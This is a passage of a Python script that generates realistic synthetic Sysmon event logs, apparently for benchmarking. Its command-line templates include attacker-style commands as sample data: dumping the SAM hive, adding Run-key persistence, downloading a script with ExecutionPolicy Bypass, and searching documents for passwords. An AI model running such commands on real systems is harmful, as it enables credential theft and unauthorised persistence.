#!/usr/bin/env python3
"""Write a large, synthetic but realistic Sysmon log in Splunk's XmlWinEventLog format.

One ``<Event xmlns=...>...</Event>`` per line (a few records carry a multi-line CommandLine and so
span several lines). Output is fully determined by --records and --seed.

    python benchmarks/generate_sysmon.py --records 200000 --seed 1 --out sysmon.log
"""
from __future__ import annotations

import argparse
import json
import os
import random
import sys
import time
from datetime import datetime, timezone

from lxml import etree

NS = "http://schemas.microsoft.com/win/2004/08/events/event"
PROVIDER = ('<Provider Name="Microsoft-Windows-Sysmon" '
            'Guid="5770385F-C22A-43E0-BF4C-06F5698FFBD9"/>')
CHANNEL = "<Channel>Microsoft-Windows-Sysmon/Operational</Channel>"

# EventID -> (Version, Task) as written by Sysmon 15.
EID_HEADER = {1: (5, 1), 3: (5, 3), 5: (3, 5), 7: (3, 7), 11: (2, 11), 12: (2, 12), 13: (2, 13),
              22: (5, 22)}
# Cumulative mix: 1 25%, 3 15%, 11 15%, 12 10%, 13 20%, 22 10%, 5 2.5%, 7 2.5%.
MIX = [(0.25, 1), (0.40, 3), (0.55, 11), (0.65, 12), (0.85, 13), (0.95, 22), (0.975, 5), (1.0, 7)]

DOMAIN = "CONTOSO"
FQDN = "contoso.local"
SID_BASE = "S-1-5-21-3623811015-3361044348-30300820"

HOSTS = ["WIN-DC01", "WIN-DC02", "WS-FIN-014", "WS-HR-003", "WS-DEV-021", "WS-DEV-022",
         "WS-SALES-107", "SRV-FILE01", "SRV-SQL02", "SRV-WEB01", "LAPTOP-JDOE", "LAPTOP-MKIM"]
PEOPLE = ["jdoe", "mkim", "asmith", "bwilson", "cgarcia", "dlee", "epatel", "fnguyen",
          "gmartin", "hchen", "Administrator", "svc_backup", "svc_sql", "o.brien"]
SERVICE_USERS = ["NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\SYSTEM",
                 "NT AUTHORITY\\NETWORK SERVICE", "NT AUTHORITY\\LOCAL SERVICE"]

WIN_FV = "10.0.19041.1 (WinBuild.160101.0800)"
WIN_PRODUCT = "Microsoft\u00ae Windows\u00ae Operating System"
MS = "Microsoft Corporation"

# System binaries: name, description. Paths are C:\Windows\System32\<name> (a few SysWOW64).
SYSTEM32 = """\
svchost.exe|Host Process for Windows Services
cmd.exe|Windows Command Processor
conhost.exe|Console Window Host
rundll32.exe|Windows host process (Rundll32)
regsvr32.exe|Microsoft(C) Register Server
reg.exe|Registry Console Tool
schtasks.exe|Task Scheduler Configuration Tool
taskhostw.exe|Host Process for Windows Tasks
net.exe|Net Command
net1.exe|Net Command
netsh.exe|Network Command Shell
sc.exe|Service Control Manager Configuration Tool
wmic.exe|WMI Commandline Utility
whoami.exe|whoami - displays logged on user information
hostname.exe|Hostname APP
ipconfig.exe|IP Configuration Utility
nslookup.exe|nslookup
ping.exe|TCP/IP Ping Command
tasklist.exe|Lists the current running tasks
taskkill.exe|Terminates Processes
systeminfo.exe|Displays system information
certutil.exe|CertUtil.exe
bitsadmin.exe|BITS administration utility
mshta.exe|Microsoft (R) HTML Application host
msiexec.exe|Windows\u00ae installer
wscript.exe|Microsoft \u00ae Windows Based Script Host
cscript.exe|Microsoft \u00ae Console Based Script Host
explorer.exe|Windows Explorer
notepad.exe|Notepad
mmc.exe|Microsoft Management Console
dllhost.exe|COM Surrogate
wermgr.exe|Windows Problem Reporting
werfault.exe|Windows Problem Reporting
SearchIndexer.exe|Microsoft Windows Search Indexer
SearchProtocolHost.exe|Microsoft Windows Search Protocol Host
SearchFilterHost.exe|Microsoft Windows Search Filter Host
backgroundTaskHost.exe|Background Task Host
RuntimeBroker.exe|Runtime Broker
sihost.exe|Shell Infrastructure Host
ctfmon.exe|CTF Loader
dwm.exe|Desktop Window Manager
lsass.exe|Local Security Authority Process
services.exe|Services and Controller app
winlogon.exe|Windows Logon Application
wininit.exe|Windows Start-Up Application
smss.exe|Windows Session Manager
csrss.exe|Client Server Runtime Process
spoolsv.exe|Spooler SubSystem App
userinit.exe|Userinit Logon Application
LogonUI.exe|Windows Logon User Interface Host
consent.exe|Consent UI for administrative applications
WmiPrvSE.exe|WMI Provider Host
wbemtest.exe|WMI Test
gpupdate.exe|Microsoft\u00ae Windows\u00ae Operating System Group Policy Update Utility
gpresult.exe|Query Group Policy RSOP Data
auditpol.exe|Audit Policy Program
wevtutil.exe|Eventing Command Line Utility
vssadmin.exe|Command Line Interface for Microsoft\u00ae Volume Shadow Copy Service
wbadmin.exe|Command Line Interface for Microsoft\u00ae BLB Backup
bcdedit.exe|Boot Configuration Data Editor
icacls.exe|icacls
takeown.exe|Takes ownership of a file
attrib.exe|Attribute Utility
findstr.exe|Find String (QGREP) Utility
find.exe|Find String (grep) Utility
xcopy.exe|Extended Copy Utility
robocopy.exe|Microsoft Robocopy
expand.exe|LZ Expansion Utility
makecab.exe|Microsoft\u00ae Cabinet Maker
cipher.exe|File Encryption Utility
compact.exe|File Compress Utility
fsutil.exe|fsutil.exe
chkdsk.exe|Check Disk Utility
defrag.exe|Disk Defragmenter Module
diskpart.exe|DiskPart
mountvol.exe|Creates, deletes, or lists a volume mount point.
mstsc.exe|Remote Desktop Connection
qwinsta.exe|Query Session Utility
quser.exe|Query User Utility
query.exe|Query Utility
logoff.exe|Session Logoff Utility
shutdown.exe|Windows Shutdown and Annotation Tool
runas.exe|Run As Utility
cmdkey.exe|Credential Manager Command Line Utility
klist.exe|Kerberos List Tool
nltest.exe|Microsoft\u00ae Logon Server Test Utility
dsquery.exe|Microsoft AD DS/LDS query command line utility
setspn.exe|Query or reset the computer SPN attribute
w32tm.exe|Time Service Diagnostic Tool
tzutil.exe|Windows Time Zone Utility
arp.exe|TCP/IP Arp Command
route.exe|TCP/IP Route Command
netstat.exe|TCP/IP Netstat Command
tracert.exe|TCP/IP Traceroute Command
pathping.exe|TCP/IP PathPing Command
ftp.exe|File Transfer Program
curl.exe|curl executable
tar.exe|bsdtar archive tool
where.exe|Lists location of files
forfiles.exe|ForFiles - Executes a command on selected files
cmstp.exe|Microsoft Connection Manager Profile Installer
odbcconf.exe|ODBC Driver Configuration Program
msdt.exe|Diagnostics Troubleshooting Wizard
control.exe|Windows Control Panel
eventvwr.exe|Event Viewer Snapin Launcher
perfmon.exe|Resource and Performance Monitor
resmon.exe|Resource and Performance Monitor
taskmgr.exe|Task Manager
regedit.exe|Registry Editor
msconfig.exe|System Configuration Utility
sdbinst.exe|Application Compatibility Database Installer
pcalua.exe|Program Compatibility Assistant
wuauclt.exe|Windows Update
UsoClient.exe|UsoClient
MusNotification.exe|Windows Update
TiWorker.exe|Windows Modules Installer Worker
TrustedInstaller.exe|Windows Modules Installer
DeviceCensus.exe|Device Census
CompatTelRunner.exe|Microsoft Compatibility Telemetry
sppsvc.exe|Microsoft Software Protection Platform Service
slui.exe|Windows Activation Client
MpCmdRun.exe|Microsoft Malware Protection Command Line Utility
smartscreen.exe|Windows Defender SmartScreen
SecurityHealthService.exe|Windows Security Health Service
SecurityHealthSystray.exe|Windows Security notification icon
audiodg.exe|Windows Audio Device Graph Isolation
fontdrvhost.exe|Usermode Font Driver Host
dasHost.exe|Device Association Framework Provider Host
WUDFHost.exe|Windows Driver Foundation - User-mode Driver Framework Host Process
dllhst3g.exe|COM Surrogate
ie4uinit.exe|IE Per-User Initialization Utility
PING.EXE|TCP/IP Ping Command
wsmprovhost.exe|Host process for WinRM plug-ins
winrshost.exe|Host Process for WinRM's Remote Shell plugin
lodctr.exe|Load PerfMon Counters
unregmp2.exe|Microsoft Windows Media Player Setup Utility
sethc.exe|Accessibility shortcut keys
utilman.exe|Utility Manager
osk.exe|Accessibility On-Screen Keyboard
magnify.exe|Microsoft Screen Magnifier
calc.exe|Windows Calculator
mspaint.exe|Paint
write.exe|Windows Write
wordpad.exe|Windows Wordpad Application
"""

# Third-party / Program Files binaries: path|description|product|company|version
PROGRAMS = """\
C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe|Google Chrome|Google Chrome|Google LLC|118.0.5993.118
C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe|Microsoft Edge|Microsoft Edge|Microsoft Corporation|118.0.2088.76
C:\\Program Files\\Mozilla Firefox\\firefox.exe|Firefox|Firefox|Mozilla Corporation|119.0
C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE|Microsoft Word|Microsoft Office|Microsoft Corporation|16.0.16827.20166
C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE|Microsoft Excel|Microsoft Office|Microsoft Corporation|16.0.16827.20166
C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE|Microsoft Outlook|Microsoft Office|Microsoft Corporation|16.0.16827.20166
C:\\Program Files\\Microsoft Office\\root\\Office16\\POWERPNT.EXE|Microsoft PowerPoint|Microsoft Office|Microsoft Corporation|16.0.16827.20166
C:\\Program Files\\Microsoft Office\\root\\Office16\\ONENOTE.EXE|Microsoft OneNote|Microsoft Office|Microsoft Corporation|16.0.16827.20166
C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun\\OfficeClickToRun.exe|Microsoft Office Click-to-Run|Microsoft Office|Microsoft Corporation|16.0.16827.20130
C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe|Microsoft OneDrive|Microsoft OneDrive|Microsoft Corporation|23.214.1015.0001
C:\\Program Files\\Windows Defender\\MsMpEng.exe|Antimalware Service Executable|Microsoft\u00ae Windows\u00ae Operating System|Microsoft Corporation|4.18.23090.2008
C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23090.2008-0\\MpCmdRun.exe|Microsoft Malware Protection Command Line Utility|Microsoft\u00ae Windows\u00ae Operating System|Microsoft Corporation|4.18.23090.2008
C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23090.2008-0\\MsMpEng.exe|Antimalware Service Executable|Microsoft\u00ae Windows\u00ae Operating System|Microsoft Corporation|4.18.23090.2008
C:\\Program Files\\Windows Defender Advanced Threat Protection\\MsSense.exe|Windows Defender Advanced Threat Protection Service Executable|Microsoft\u00ae Windows\u00ae Operating System|Microsoft Corporation|10.8560.25364.1036
C:\\Program Files\\Microsoft VS Code\\Code.exe|Visual Studio Code|Visual Studio Code|Microsoft Corporation|1.83.1
C:\\Program Files\\Git\\cmd\\git.exe|Git for Windows|Git|The Git Development Community|2.42.0.2
C:\\Program Files\\Git\\mingw64\\bin\\git.exe|Git for Windows|Git|The Git Development Community|2.42.0.2
C:\\Program Files\\Git\\usr\\bin\\bash.exe|GNU Bash|Git|The Git Development Community|5.2.15
C:\\Program Files\\Python311\\python.exe|Python|Python|Python Software Foundation|3.11.6
C:\\Program Files\\nodejs\\node.exe|Node.js JavaScript Runtime|Node.js|Node.js|18.18.2
C:\\Program Files\\Notepad++\\notepad++.exe|Notepad++|Notepad++|Notepad++ Team|8.5.8
C:\\Program Files\\7-Zip\\7z.exe|7-Zip Console|7-Zip|Igor Pavlov|23.01
C:\\Program Files\\7-Zip\\7zG.exe|7-Zip GUI|7-Zip|Igor Pavlov|23.01
C:\\Program Files\\WinRAR\\WinRAR.exe|WinRAR archiver|WinRAR|Alexander Roshal|6.23.0
C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe|Adobe Acrobat|Adobe Acrobat|Adobe Inc.|23.6.20320.0
C:\\Program Files (x86)\\Adobe\\Acrobat Reader DC\\Reader\\AcroRd32.exe|Adobe Acrobat Reader DC|Adobe Acrobat Reader DC|Adobe Systems Incorporated|23.6.20320.0
C:\\Program Files\\Zoom\\bin\\Zoom.exe|Zoom Meetings|Zoom Meetings|Zoom Video Communications, Inc.|5.16.5.24363
C:\\Program Files\\Slack\\slack.exe|Slack|Slack|Slack Technologies Inc.|4.35.126
C:\\Program Files (x86)\\TeamViewer\\TeamViewer.exe|TeamViewer|TeamViewer|TeamViewer Germany GmbH|15.47.3.0
C:\\Program Files (x86)\\TeamViewer\\TeamViewer_Service.exe|TeamViewer|TeamViewer|TeamViewer Germany GmbH|15.47.3.0
C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe|VMware Tools Core Service|VMware Tools|VMware, Inc.|12.2.5.50322
C:\\Program Files\\VMware\\VMware Tools\\VMware VGAuth\\VGAuthService.exe|VMware Guest Authentication Service|VMware Tools|VMware, Inc.|12.2.5.50322
C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe|SQL Server Windows NT - 64 Bit|Microsoft SQL Server|Microsoft Corporation|2019.150.2000.5
C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\SQLAGENT.EXE|SQL Agent|Microsoft SQL Server|Microsoft Corporation|2019.150.2000.5
C:\\Program Files (x86)\\Microsoft SQL Server Management Studio 19\\Common7\\IDE\\Ssms.exe|SSMS|Microsoft SQL Server|Microsoft Corporation|19.1.56.0
C:\\Windows\\System32\\inetsrv\\w3wp.exe|IIS Worker Process|Internet Information Services|Microsoft Corporation|10.0.17763.1
C:\\Windows\\System32\\inetsrv\\appcmd.exe|Application Server Command Line Admin Tool|Internet Information Services|Microsoft Corporation|10.0.17763.1
C:\\Program Files\\Splunk\\bin\\splunkd.exe|splunk server daemon|splunk Application|Splunk Inc.|9.1.1
C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunkd.exe|splunk server daemon|splunk Application|Splunk Inc.|9.1.1
C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunk-winevtlog.exe|splunk windows event log|splunk Application|Splunk Inc.|9.1.1
C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunk-powershell.exe|splunk powershell|splunk Application|Splunk Inc.|9.1.1
C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunk-regmon.exe|splunk registry monitor|splunk Application|Splunk Inc.|9.1.1
C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunk-netmon.exe|splunk network monitor|splunk Application|Splunk Inc.|9.1.1
C:\\Program Files\\Amazon\\SSM\\amazon-ssm-agent.exe|Amazon SSM Agent|Amazon SSM Agent|Amazon.com, Inc.|3.2.1705.0
C:\\Program Files\\Amazon\\XenTools\\LiteAgent.exe|LiteAgent|AWS PV Drivers|Amazon Inc.|8.4.3
C:\\Program Files\\Docker\\Docker\\Docker Desktop.exe|Docker Desktop|Docker Desktop|Docker Inc.|4.24.2
C:\\Program Files\\PowerShell\\7\\pwsh.exe|pwsh|PowerShell|Microsoft Corporation|7.3.8.500
C:\\Program Files\\Wireshark\\Wireshark.exe|Wireshark|Wireshark|The Wireshark developer community|4.0.10
C:\\Program Files\\PuTTY\\putty.exe|SSH, Telnet, Rlogin, and SUPDUP client|PuTTY suite|Simon Tatham|0.79.0.0
C:\\Program Files\\FileZilla FTP Client\\filezilla.exe|FileZilla FTP Client|FileZilla|Tim Kosse|3.66.0
C:\\Program Files\\KeePass Password Safe 2\\KeePass.exe|KeePass|KeePass|Dominik Reichl|2.55.0.0
C:\\Program Files\\Microsoft Teams\\current\\Teams.exe|Microsoft Teams|Microsoft Teams|Microsoft Corporation|1.6.0.27573
C:\\Program Files\\Cisco\\Cisco AnyConnect Secure Mobility Client\\vpnui.exe|Cisco AnyConnect User Interface|Cisco AnyConnect Secure Mobility Client|Cisco Systems, Inc.|4.10.07061
C:\\Program Files\\Cisco\\Cisco AnyConnect Secure Mobility Client\\vpnagent.exe|Cisco AnyConnect Secure Mobility Agent|Cisco AnyConnect Secure Mobility Client|Cisco Systems, Inc.|4.10.07061
C:\\Program Files\\CrowdStrike\\CSFalconService.exe|CrowdStrike Falcon Sensor Service|CrowdStrike Falcon Sensor|CrowdStrike, Inc.|7.5.17706.0
C:\\Program Files (x86)\\Dropbox\\Client\\Dropbox.exe|Dropbox|Dropbox|Dropbox, Inc.|186.4.6017
C:\\Program Files\\Java\\jre-1.8\\bin\\java.exe|Java(TM) Platform SE binary|Java(TM) Platform SE 8|Oracle Corporation|8.0.3910.13
C:\\Program Files\\Java\\jre-1.8\\bin\\javaw.exe|Java(TM) Platform SE binary|Java(TM) Platform SE 8|Oracle Corporation|8.0.3910.13
C:\\Program Files\\Sysinternals\\procexp64.exe|Sysinternals Process Explorer|Sysinternals Process Explorer|Sysinternals - www.sysinternals.com|17.05
C:\\Program Files\\Sysinternals\\PsExec.exe|Execute processes remotely|Sysinternals PsExec|Sysinternals - www.sysinternals.com|2.43
C:\\Windows\\PSEXESVC.exe|PsExec Service|Sysinternals PsExec|Sysinternals - www.sysinternals.com|2.43
C:\\Windows\\Sysmon64.exe|System activity monitor|Sysinternals Sysmon|Sysinternals - www.sysinternals.com|15.0
C:\\Windows\\SystemApps\\Microsoft.Windows.StartMenuExperienceHost_cw5n1h2txyewy\\StartMenuExperienceHost.exe|Windows Start Experience Host|Microsoft\u00ae Windows\u00ae Operating System|Microsoft Corporation|10.0.19041.3570
C:\\Windows\\SystemApps\\MicrosoftWindows.Client.CBS_cw5n1h2txyewy\\SearchHost.exe|SearchHost.exe|Microsoft\u00ae Windows\u00ae Operating System|Microsoft Corporation|10.0.19041.3570
C:\\Windows\\SystemApps\\ShellExperienceHost_cw5n1h2txyewy\\ShellExperienceHost.exe|Windows Shell Experience Host|Microsoft\u00ae Windows\u00ae Operating System|Microsoft Corporation|10.0.19041.3570
C:\\Windows\\ImmersiveControlPanel\\SystemSettings.exe|Settings|Microsoft\u00ae Windows\u00ae Operating System|Microsoft Corporation|10.0.19041.3570
C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe|Visual C# Command Line Compiler|Microsoft\u00ae .NET Framework|Microsoft Corporation|4.8.4084.0
C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe|MSBuild.exe|Microsoft\u00ae .NET Framework|Microsoft Corporation|4.8.4084.0
C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\ngen.exe|Microsoft Common Language Runtime native compiler|Microsoft\u00ae .NET Framework|Microsoft Corporation|4.8.4084.0
C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\mscorsvw.exe|.NET Runtime Optimization Service|Microsoft\u00ae .NET Framework|Microsoft Corporation|4.8.4084.0
C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\InstallUtil.exe|.NET Framework installation utility|Microsoft\u00ae .NET Framework|Microsoft Corporation|4.8.4084.0
C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegAsm.exe|Microsoft .NET Assembly Registration Utility|Microsoft\u00ae .NET Framework|Microsoft Corporation|4.8.4084.0
C:\\Windows\\SysWOW64\\rundll32.exe|Windows host process (Rundll32)|Microsoft\u00ae Windows\u00ae Operating System|Microsoft Corporation|10.0.19041.1
C:\\Windows\\SysWOW64\\cmd.exe|Windows Command Processor|Microsoft\u00ae Windows\u00ae Operating System|Microsoft Corporation|10.0.19041.1
C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe|Windows PowerShell|Microsoft\u00ae Windows\u00ae Operating System|Microsoft Corporation|10.0.19041.1
C:\\Windows\\SysWOW64\\msiexec.exe|Windows\u00ae installer|Microsoft\u00ae Windows\u00ae Operating System|Microsoft Corporation|10.0.19041.1
C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe|Windows PowerShell|Microsoft\u00ae Windows\u00ae Operating System|Microsoft Corporation|10.0.19041.1
C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell_ise.exe|Windows PowerShell ISE|Microsoft\u00ae Windows\u00ae Operating System|Microsoft Corporation|10.0.19041.1
C:\\Windows\\System32\\wbem\\WmiPrvSE.exe|WMI Provider Host|Microsoft\u00ae Windows\u00ae Operating System|Microsoft Corporation|10.0.19041.1
C:\\Windows\\System32\\wbem\\WMIC.exe|WMI Commandline Utility|Microsoft\u00ae Windows\u00ae Operating System|Microsoft Corporation|10.0.19041.1
C:\\Windows\\explorer.exe|Windows Explorer|Microsoft\u00ae Windows\u00ae Operating System|Microsoft Corporation|10.0.19041.3570
C:\\Windows\\regedit.exe|Registry Editor|Microsoft\u00ae Windows\u00ae Operating System|Microsoft Corporation|10.0.19041.1
C:\\Windows\\hh.exe|Microsoft\u00ae HTML Help Executable|HTML Help|Microsoft Corporation|10.0.19041.1
C:\\Users\\Public\\Downloads\\AnyDesk.exe|AnyDesk|AnyDesk|philandro Software GmbH|7.1.13
"""

RMS_IMAGE = "C:\\Program Files (x86)\\Remote Manipulator System - Host\\rutserv.exe"

# Command-line argument tails per process name (lower case). Placeholders: {u} user name,
# {h} host, {n} random number, {x} random hex, {d} DNS name, {f} document name.
ARGS = {
    "svchost.exe": ["-k netsvcs -p -s Schedule", "-k LocalServiceNetworkRestricted -p -s EventLog",
                    "-k NetworkService -p -s Dnscache", "-k DcomLaunch -p", "-k RPCSS -p",
                    "-k LocalSystemNetworkRestricted -p -s SysMain", "-k wsappx -p -s AppXSvc",
                    "-k netsvcs -p -s BITS", "-k UnistackSvcGroup -s CDPUserSvc"],
    "cmd.exe": ['/c "whoami /all"', "/c ipconfig /all", "/c echo {n} > C:\\Windows\\Temp\\{x}.txt",
                '/c "dir C:\\Users\\{u}\\Documents"', "/c net use \\\\SRV-FILE01\\share",
                '/c "cd /d C:\\Temp && copy {f} \\\\SRV-FILE01\\share\\{u}\\"',
                '/c type "C:\\Users\\{u}\\Documents\\{f}" | findstr /i "<password>"',
                "/c ping -n 1 {d} & exit", '/c "C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunk.exe" status',
                "/c schtasks /query /fo LIST /v", "/c tasklist /v > C:\\Temp\\tl_{n}.txt"],
    "powershell.exe": ["-NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory_{n}.ps1",
                       "-nop -w hidden -c \"Get-Process | Sort-Object CPU -Descending | Select-Object -First 10\"",
                       "-Command \"Get-ChildItem -Path C:\\Users\\{u} -Recurse -Filter *.docx\"",
                       "-ExecutionPolicy Bypass -Command \"Invoke-WebRequest -Uri https://{d}/update.ps1 -OutFile $env:TEMP\\u.ps1\"",
                       "-NoLogo -NonInteractive -Command \"& {{Get-Service | Where-Object {{$_.Status -eq 'Running'}}}}\"",
                       "-EncodedCommand {b64}"],
    "rundll32.exe": ["C:\\Windows\\System32\\shell32.dll,SHCreateLocalServerRunDll {{9aa46009-3ce0-458a-a354-715610a075e6}} -Embedding",
                     "C:\\Windows\\system32\\davclnt.dll,DavSetCookie {d} https://{d}/",
                     "printui.dll,PrintUIEntry /in /n \\\\SRV-FILE01\\Printer{n}",
                     "C:\\Users\\{u}\\AppData\\Local\\Temp\\{x}.dll,DllRegisterServer",
                     "advapi32.dll,ProcessIdleTasks"],
    "reg.exe": ['query "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall" /s',
                'add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v Updater{n} /t REG_SZ /d "C:\\Users\\{u}\\AppData\\Roaming\\upd.exe" /f',
                "save HKLM\\SAM C:\\Windows\\Temp\\sam_{n}.hiv", 'query "HKU\\{sid}\\Software\\Microsoft\\Office"'],
    "schtasks.exe": ['/create /tn "Update{n}" /tr "C:\\ProgramData\\upd\\run.bat" /sc daily /st 09:00 /f',
                     "/query /fo csv /nh", '/run /tn "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag"'],
    "net.exe": ["user {u} /domain", 'group "Domain Admins" /domain', "localgroup administrators",
                "use Z: \\\\SRV-FILE01\\share /persistent:no", "view \\\\{h}", "start wuauserv"],
    "certutil.exe": ["-hashfile C:\\Users\\{u}\\Downloads\\setup_{n}.exe SHA256", "-dump C:\\Temp\\cert{n}.cer",
                     "-verify -urlfetch C:\\Temp\\chain{n}.p7b", "-store My"],
    "bitsadmin.exe": ["/list /allusers /verbose", "/info MicrosoftUpdate{n}"],
    "wmic.exe": ["process list brief", "os get caption,version", "/node:{h} process call create \"cmd.exe /c hostname\"",
                 "shadowcopy list", "product get name,version"],
    "msiexec.exe": ["/i C:\\Users\\{u}\\Downloads\\installer_{n}.msi /qn", "/V", "/x {{90160000-0011-0000-1000-0000000FF1CE}} /qb"],
    "chrome.exe": ['--type=renderer --lang=en-US --renderer-client-id={n} --mojo-platform-channel-handle={n} /prefetch:1',
                   '--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none /prefetch:8',
                   'https://{d}/ --flag-switches-begin --flag-switches-end',
                   '--type=gpu-process --gpu-preferences=WAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAA4AAAAAAAAAAAAAAAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA --mojo-platform-channel-handle={n} --field-trial-handle=1880,i,{n},{n},262144 /prefetch:2'],
    "msedge.exe": ['--type=renderer --instance-id={n} /prefetch:1', '--single-argument https://{d}/?q=a&b=c',
                   '--type=utility --utility-sub-type=storage.mojom.StorageService --lang=en-US /prefetch:8'],
    "winword.exe": ['/n "C:\\Users\\{u}\\Documents\\{f}" /o ""', '"C:\\Users\\{u}\\Downloads\\{f}"'],
    "excel.exe": ['"C:\\Users\\{u}\\Documents\\{f}"', "/dde"],
    "explorer.exe": ['/factory,{{75dff2b7-6936-4c06-a8bb-676a7b00b24b}} -Embedding', '"C:\\Users\\{u}\\Documents"'],
    "taskkill.exe": ["/F /IM {x}.exe", "/PID {n} /T"],
    "ping.exe": ["-n 4 {d}", "{h}"],
    "nslookup.exe": ["{d}", "-type=srv _ldap._tcp.dc._msdcs." + FQDN],
    "git.exe": ["fetch --all --prune", "status --porcelain", "clone https://{d}/team/repo{n}.git"],
    "python.exe": ["C:\\Users\\{u}\\src\\etl\\job_{n}.py --since 2024-01-01 --out C:\\data\\out_{n}.csv",
                   "-m pip install --upgrade requests"],
    "7z.exe": ['a -tzip "C:\\Users\\{u}\\Desktop\\backup_{n}.zip" "C:\\Users\\{u}\\Documents\\*"'],
    "curl.exe": ["-s -o C:\\Users\\Public\\{x}.bin https://{d}/dl/{n}", "-k https://{d}/api/v1/ping"],
}
GENERIC_ARGS = ["", "", "", "/?", "-Embedding", "/s", "{n}", "/quiet /norestart",
                '"C:\\Users\\{u}\\Documents\\{f}"']

DOCS = ["Q3 Sales & Marketing.xlsx", "budget_2024.xlsx", "Meeting Notes.docx", "R&D roadmap.pptx",
        "contract <draft>.docx", "invoice_{n}.pdf", "report.pdf", "HR \"Confidential\" memo.docx",
        "passwords.txt", "notes.txt", "AT&T billing.pdf", "design-spec v2.docx"]

DNS = ["www.google.com", "login.microsoftonline.com", "outlook.office365.com", "settings-win.data.microsoft.com",
       "v10.events.data.microsoft.com", "ctldl.windowsupdate.com", "fe2.update.microsoft.com", "wpad." + FQDN,
       "_ldap._tcp.dc._msdcs." + FQDN, "win-dc01." + FQDN, "srv-file01." + FQDN, "github.com",
       "api.github.com", "objects.githubusercontent.com", "pypi.org", "files.pythonhosted.org",
       "registry.npmjs.org", "zoom.us", "slack.com", "edge.microsoft.com", "clients2.google.com",
       "update.googleapis.com", "ocsp.digicert.com", "crl.microsoft.com", "time.windows.com",
       "s3.amazonaws.com", "ssm.us-east-1.amazonaws.com", "download.teamviewer.com",
       "telemetry.splunk.com", "cdn.discordapp.com", "pastebin.com", "raw.githubusercontent.com",
       "transfer.sh", "ngrok.io", "paste.ee", "xn--80ak6aa92e.com", "update-check.example-cdn.net",
       "a1834.dscg2.akamai.net", "teams.microsoft.com", "graph.microsoft.com", "onedrive.live.com",
       "dropbox.com", "docs.google.com", "dns.msftncsi.com", "www.msftconnecttest.com",
       "sqm.telemetry.microsoft.com", "rms-server.example.ru", "kms." + FQDN, "intranet." + FQDN]
EXT_IPS = ["142.250.72.196", "20.190.151.7", "52.96.165.18", "13.107.4.52", "40.126.32.134",
           "151.101.1.69", "140.82.114.4", "185.199.108.133", "104.16.123.96", "3.5.29.187",
           "93.184.216.34", "172.217.14.78", "23.45.120.11", "198.51.100.23", "203.0.113.77",
           "45.33.32.156", "185.220.101.4", "2606:4700::6810:7b60"]
PORTS = [(443, "https"), (443, "https"), (443, "https"), (80, "http"), (445, "microsoft-ds"),
         (389, "ldap"), (53, "domain"), (135, "epmap"), (5985, "-"), (3389, "ms-wbt-server"),
         (88, "kerberos"), (8089, "-"), (9997, "-")]
SERVICES = ["Dnscache", "BITS", "wuauserv", "EventLog", "Schedule", "Spooler", "WinDefend", "W32Time",
            "LanmanServer", "LanmanWorkstation", "Netlogon", "SysMain", "TermService", "WinRM",
            "SplunkForwarder", "Sysmon64", "VSS", "MSSQLSERVER", "RemoteRegistry", "AppXSvc"]
REG_KEYS = [
    "HKLM\\System\\CurrentControlSet\\Services\\{svc}\\Start",
    "HKLM\\System\\CurrentControlSet\\Services\\{svc}\\ImagePath",
    "HKLM\\System\\CurrentControlSet\\Services\\{svc}\\Parameters\\ServiceDll",
    "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\{sid}\\\\Device\\HarddiskVolume3\\Windows\\System32\\{img}",
    "HKLM\\System\\CurrentControlSet\\Control\\Session Manager\\Environment\\TEMP",
    "HKLM\\System\\CurrentControlSet\\Control\\Lsa\\LmCompatibilityLevel",
    "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections",
    "HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\{{{guid}}}\\DhcpIPAddress",
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Channels\\Microsoft-Windows-Sysmon/Operational\\Enabled",
    "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring",
